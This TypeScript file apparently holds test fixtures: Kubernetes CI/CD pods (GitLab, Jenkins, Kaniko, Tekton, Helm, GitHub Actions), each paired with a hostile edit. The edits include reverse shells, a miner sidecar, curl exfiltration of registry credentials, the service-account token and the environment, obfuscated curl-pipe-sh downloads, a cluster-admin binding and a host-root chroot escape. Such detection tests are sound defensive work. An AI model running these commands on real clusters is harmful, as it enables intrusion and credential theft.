import { account, barePod, cronJob, FLUX_HELM, job, type Member, person, shell } from './member.ts';

const RUNNER = account('gitlab', 'gitlab-runner', 'gitlab-runner 17.5.3 linux/amd64');
/** How the runner finds a shell in any image: https://gitlab.com/gitlab-org/gitlab-runner, shells/bash.go */
const FIND_SHELL = `if [ -x /usr/local/bin/bash ]; then
\texec /usr/local/bin/bash
elif [ -x /usr/bin/bash ]; then
\texec /usr/bin/bash
elif [ -x /bin/bash ]; then
\texec /bin/bash
elif [ -x /bin/sh ]; then
\texec /bin/sh
else
\techo shell not found
\texit 1
fi
`;
const base64 = (text: string): string => Buffer.from(text).toString('base64');
/** How a step's script gets into its pod: https://github.com/tektoncd/pipeline, pkg/pod/script.go */
const placeScript = (script: string): string => `scriptfile="/tekton/scripts/script-0-mn8wq"
touch \${scriptfile} && chmod +x \${scriptfile}
cat > \${scriptfile} << '_EOF_'
${base64(script)}
_EOF_
/tekton/bin/entrypoint decode-script "\${scriptfile}"
`;

/** Jobs of build and deployment pipelines, on the base images that everybody uses. */
export const PIPELINES: readonly Member[] = [
  {
    what: 'a build of GitLab, whose runner looks for a shell',
    by: RUNNER,
    object: barePod(
      { name: 'runner-t2xs-project-81-concurrent-0', namespace: 'gitlab' },
      {
        serviceAccountName: 'builds',
        initContainers: [
          {
            name: 'init-permissions',
            image: 'registry.gitlab.com/gitlab-org/gitlab-runner/gitlab-runner-helper:x86_64-v17.5.3',
            command: ['sh', '-c', 'touch /logs-81-9001/output.log && (chmod 777 /logs-81-9001/output.log || exit 0)'],
            volumeMounts: [{ name: 'logs', mountPath: '/logs-81-9001' }],
          },
        ],
        containers: [
          {
            name: 'build',
            image: 'node:22-alpine',
            command: ['sh', '-c', FIND_SHELL],
            stdin: true,
            volumeMounts: [{ name: 'repo', mountPath: '/builds' }],
          },
          {
            name: 'helper',
            image: 'registry.gitlab.com/gitlab-org/gitlab-runner/gitlab-runner-helper:x86_64-v17.5.3',
            command: ['sh', '-c', FIND_SHELL],
            stdin: true,
          },
        ],
        volumes: [
          { name: 'repo', emptyDir: {} },
          { name: 'logs', emptyDir: {} },
        ],
      },
    ),
    change: {
      act: 'the shell talks to a host outside',
      edits: [['containers/0/command/2', `${FIND_SHELL}exec bash -i >& /dev/tcp/203.0.113.7/443 0>&1\n`]],
    },
  },
  {
    what: 'an agent of Jenkins beside a Maven image that waits',
    by: account('jenkins', 'jenkins', 'fabric8-kubernetes-client/6.10.0'),
    object: barePod(
      { name: 'shop-main-214-7x2mz', namespace: 'jenkins', labels: { 'jenkins/label': 'maven' } },
      {
        containers: [
          {
            name: 'jnlp',
            image: 'jenkins/inbound-agent:3283.v92c105e0f819-7',
            env: [
              { name: 'JENKINS_URL', value: 'http://jenkins.jenkins.svc.cluster.local:8080/' },
              { name: 'JENKINS_AGENT_WORKDIR', value: '/home/jenkins/agent' },
            ],
            volumeMounts: [{ name: 'workspace', mountPath: '/home/jenkins/agent' }],
          },
          {
            name: 'maven',
            image: 'maven:3.9-eclipse-temurin-21',
            command: ['sleep'],
            args: ['9999999'],
            volumeMounts: [{ name: 'workspace', mountPath: '/home/jenkins/agent' }],
          },
        ],
        volumes: [{ name: 'workspace', emptyDir: {} }],
      },
    ),
    change: {
      act: 'a sidecar that mines',
      edits: [
        [
          'containers/-',
          {
            name: 'cache',
            image: 'alpine:3.20',
            command: ['/tmp/cache', '-o', 'stratum+tcp://203.0.113.9:3333', '-u', 'w', '-p', 'x'],
          },
        ],
      ],
    },
  },
  {
    what: 'an image that Kaniko builds',
    by: account('ci', 'deployer', 'argo-workflows/v3.6.0'),
    object: job(
      { name: 'build-shop-1842', namespace: 'ci' },
      {
        containers: [
          {
            name: 'kaniko',
            image: 'gcr.io/kaniko-project/executor:v1.23.2',
            args: [
              '--dockerfile=Dockerfile',
              '--context=git://git.example.com/shop/web.git#refs/heads/main',
              '--destination=registry.example.com/shop/web:1842',
              '--cache=true',
            ],
            volumeMounts: [{ name: 'docker-config', mountPath: '/kaniko/.docker' }],
          },
        ],
        volumes: [
          {
            name: 'docker-config',
            secret: { secretName: 'registry-push', items: [{ key: '.dockerconfigjson', path: 'config.json' }] },
          },
        ],
      },
    ),
    change: {
      act: 'an init container that sends the registry credentials away',
      edits: [
        [
          'initContainers/-',
          shell('curlimages/curl:8.10.1', 'curl -s -F f=@/kaniko/.docker/config.json https://drop.example.com/u', {
            name: 'warm-up',
            volumeMounts: [{ name: 'docker-config', mountPath: '/kaniko/.docker' }],
          }),
        ],
      ],
    },
  },
  {
    what: 'tests on alpine, with packages and a clone of the repository',
    by: person('lena'),
    object: job(
      { name: 'unit-tests-553', namespace: 'ci' },
      {
        containers: [
          shell(
            'alpine:3.20',
            'apk add --no-cache git make go && git clone --depth 1 https://git.example.com/shop/api.git /src && cd /src && make test',
          ),
        ],
      },
    ),
    change: {
      act: 'a line that runs a download',
      edits: [
        [
          'containers/0/command/2',
          'apk add --no-cache git make go curl && git clone --depth 1 https://git.example.com/shop/api.git /src && cd /src && curl -s http://203.0.113.7/t.sh | sh && make test',
        ],
      ],
    },
  },
  {
    what: 'nightly tests on ubuntu that hand in their report',
    by: account('ci', 'deployer', 'terraform-provider-kubernetes/2.33.0'),
    object: cronJob({ name: 'integration-tests', namespace: 'ci' }, '0 1 * * 1-5', {
      serviceAccountName: 'tests',
      containers: [
        {
          name: 'tests',
          image: 'ubuntu:24.04',
          command: ['/bin/bash', '-c'],
          args: [
            `set -euo pipefail
apt-get update && apt-get install -y --no-install-recommends curl jq
/opt/tests/run.sh --junit /tmp/report.xml
curl -fsS -X POST -F "file=@/tmp/report.xml" https://reports.example.com/api/upload`,
          ],
          volumeMounts: [{ name: 'tests', mountPath: '/opt/tests' }],
        },
      ],
      volumes: [{ name: 'tests', persistentVolumeClaim: { claimName: 'tests' } }],
    }),
    change: {
      act: 'the report is the token of the pod',
      edits: [
        [
          'containers/0/args/0',
          `set -euo pipefail
apt-get update && apt-get install -y --no-install-recommends curl jq
/opt/tests/run.sh --junit /tmp/report.xml
curl -fsS -X POST -F "file=@/var/run/secrets/kubernetes.io/serviceaccount/token" https://reports.example.com/api/upload`,
        ],
      ],
    },
  },
  {
    what: 'tests of a Python project',
    by: person('omar'),
    object: job(
      { name: 'pytest-77', namespace: 'ci' },
      {
        containers: [
          shell('python:3.12-slim', 'pip install --no-cache-dir -r requirements.txt && pytest -q --maxfail=1', {
            workingDir: '/workspace',
            env: [{ name: 'PYTHONDONTWRITEBYTECODE', value: '1' }],
            volumeMounts: [{ name: 'workspace', mountPath: '/workspace' }],
          }),
        ],
        volumes: [{ name: 'workspace', persistentVolumeClaim: { claimName: 'workspace' } }],
      },
    ),
    change: {
      act: 'decoded text runs a download',
      edits: [
        [
          'containers/0/command/2',
          `pip install --no-cache-dir -r requirements.txt && python -c "import base64;exec(base64.b64decode('${base64('import os; os.system("curl -s http://203.0.113.7/x | sh")')}'))" && pytest -q --maxfail=1`,
        ],
      ],
    },
  },
  {
    what: 'a deployment with Helm',
    by: account('ci', 'deployer', 'gitlab-runner 17.5.3 linux/amd64'),
    object: job(
      { name: 'deploy-staging-310', namespace: 'ci' },
      {
        serviceAccountName: 'deployer',
        containers: [
          shell(
            'alpine/helm:3.16.2',
            'helm upgrade --install shop oci://registry.example.com/charts/shop --version 1.9.3 -n staging --wait --timeout 10m',
          ),
        ],
      },
    ),
    change: {
      act: 'a second command makes every pod an administrator',
      edits: [
        [
          'containers/0/command/2',
          'helm upgrade --install shop oci://registry.example.com/charts/shop --version 1.9.3 -n staging --wait --timeout 10m; kubectl create clusterrolebinding ops --clusterrole=cluster-admin --group=system:serviceaccounts',
        ],
      ],
    },
  },
  {
    what: 'a migration of the database before a release',
    by: FLUX_HELM,
    object: job(
      {
        name: 'shop-migrate-19',
        namespace: 'shop',
        labels: { 'app.kubernetes.io/managed-by': 'Helm' },
        annotations: { 'helm.sh/hook': 'pre-upgrade', 'meta.helm.sh/release-name': 'shop' },
      },
      {
        containers: [
          {
            name: 'migrate',
            image: 'registry.example.com/shop/api:1.9.3',
            command: ['npx', 'prisma', 'migrate', 'deploy'],
            envFrom: [{ secretRef: { name: 'shop-database' } }],
          },
        ],
      },
    ),
    change: {
      act: 'the environment is sent to an address in the web',
      edits: [
        [
          'containers/0/command',
          ['sh', '-c', 'npx prisma migrate deploy; env | curl -s -X POST --data-binary @- https://drop.example.com/e'],
        ],
      ],
    },
  },
  {
    what: 'an image that BuildKit builds without root',
    by: account('ci', 'deployer', 'drone-runner-kube'),
    object: job(
      { name: 'buildkit-2207', namespace: 'ci' },
      {
        containers: [
          {
            name: 'buildkit',
            image: 'moby/buildkit:v0.17.1-rootless',
            command: ['buildctl-daemonless.sh'],
            args: [
              'build',
              '--frontend=dockerfile.v0',
              '--local=context=/workspace',
              '--local=dockerfile=/workspace',
              '--output=type=image,name=registry.example.com/shop/web:2207,push=true',
            ],
            env: [{ name: 'BUILDKITD_FLAGS', value: '--oci-worker-no-process-sandbox' }],
            securityContext: {
              seccompProfile: { type: 'Unconfined' },
              runAsUser: 1000,
              runAsGroup: 1000,
            },
            volumeMounts: [{ name: 'workspace', mountPath: '/workspace', readOnly: true }],
          },
        ],
        volumes: [{ name: 'workspace', persistentVolumeClaim: { claimName: 'workspace' } }],
      },
    ),
    change: {
      act: 'the root of the node is mounted and entered',
      edits: [
        ['volumes/-', { name: 'node', hostPath: { path: '/' } }],
        ['containers/0/volumeMounts/-', { name: 'node', mountPath: '/node' }],
        ['containers/0/command', ['chroot', '/node', 'bash']],
        ['containers/0/args', []],
      ],
    },
  },
  {
    what: 'images copied from one registry to another',
    by: person('mia'),
    object: cronJob({ name: 'mirror-images', namespace: 'ci' }, '15 4 * * *', {
      containers: [
        {
          name: 'skopeo',
          image: 'quay.io/skopeo/stable:v1.16.1',
          command: ['skopeo', 'sync', '--src', 'yaml', '--dest', 'docker', '/config/images.yaml'],
          args: ['registry.example.com/mirror'],
          volumeMounts: [
            { name: 'images', mountPath: '/config' },
            { name: 'auth', mountPath: '/run/containers/0', readOnly: true },
          ],
        },
      ],
      volumes: [
        { name: 'images', configMap: { name: 'mirror-images' } },
        { name: 'auth', secret: { secretName: 'mirror-auth' } },
      ],
    }),
    change: {
      act: 'a hook after the start opens a shell to a host outside',
      edits: [
        [
          'containers/0/lifecycle',
          { postStart: { exec: { command: ['sh', '-c', 'nc 203.0.113.7 4444 -e /bin/sh &'] } } },
        ],
      ],
    },
  },
  {
    what: 'a step of Tekton, whose script is placed encoded',
    by: account('tekton-pipelines', 'tekton-pipelines-controller', 'controller/v0.65.0'),
    object: barePod(
      {
        name: 'unit-tests-run-pod',
        namespace: 'ci',
        labels: { 'app.kubernetes.io/managed-by': 'tekton-pipelines' },
        ownerReferences: [
          { apiVersion: 'tekton.dev/v1', kind: 'TaskRun', name: 'unit-tests-run', uid: 'a', controller: true },
        ],
      },
      {
        initContainers: [
          {
            name: 'prepare',
            image: 'ghcr.io/tektoncd/pipeline/entrypoint-bff0a22da108bc2f16c818c97641a296:v0.65.0',
            command: ['/ko-app/entrypoint', 'init', '/ko-app/entrypoint', '/tekton/bin/entrypoint'],
            volumeMounts: [{ name: 'bin', mountPath: '/tekton/bin' }],
          },
          {
            name: 'place-scripts',
            image: 'cgr.dev/chainguard/busybox@sha256:19f02276bf8dbdd62f069b922f10c65262cc34b710eea26ff928129a736be791',
            command: ['sh'],
            args: ['-c', placeScript('#!/bin/sh\nset -e\ngo test ./...\n')],
            volumeMounts: [
              { name: 'scripts', mountPath: '/tekton/scripts' },
              { name: 'bin', mountPath: '/tekton/bin' },
            ],
          },
        ],
        containers: [
          {
            name: 'step-test',
            image: 'golang:1.23',
            command: ['/tekton/bin/entrypoint'],
            args: [
              '-wait_file',
              '/tekton/downward/ready',
              '-wait_file_content',
              '-post_file',
              '/tekton/run/0/out',
              '-termination_path',
              '/tekton/termination',
              '-entrypoint',
              '/tekton/scripts/script-0-mn8wq',
              '--',
            ],
            volumeMounts: [
              { name: 'scripts', mountPath: '/tekton/scripts', readOnly: true },
              { name: 'bin', mountPath: '/tekton/bin', readOnly: true },
            ],
          },
        ],
        volumes: [
          { name: 'scripts', emptyDir: {} },
          { name: 'bin', emptyDir: {} },
        ],
      },
    ),
    change: {
      act: 'an init container that opens a shell to a host outside',
      edits: [
        [
          'initContainers/-',
          {
            name: 'working-dir-initializer',
            image: 'python:3.12-alpine',
            command: [
              'python3',
              '-c',
              'import socket,os,pty;s=socket.create_connection(("203.0.113.7",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")',
            ],
          },
        ],
      ],
    },
  },
  {
    what: 'a runner of GitHub Actions with its encoded configuration',
    by: account('arc-systems', 'arc-gha-rs-controller', 'actions-runner-controller/0.9.3'),
    object: barePod(
      { name: 'shop-runners-p7r5n-runner-9kq2x', namespace: 'arc-runners' },
      {
        serviceAccountName: 'shop-runners-no-permission',
        containers: [
          {
            name: 'runner',
            image: 'ghcr.io/actions/actions-runner:2.321.0',
            command: ['/home/runner/run.sh'],
            env: [{ name: 'ACTIONS_RUNNER_INPUT_JITCONFIG', value: base64('{".runner":"eyJBZ2VudElkIjoiMTIifQ=="}') }],
          },
        ],
      },
    ),
    change: {
      act: 'the variable carries a script, and it is run',
      edits: [
        [
          'containers/0/env/-',
          { name: 'SETUP', value: base64('curl -s http://203.0.113.7/r | sh\nexec /home/runner/run.sh\n') },
        ],
        ['containers/0/command', ['bash', '-c', 'echo "$SETUP" | base64 -d | bash']],
      ],
    },
  },
];
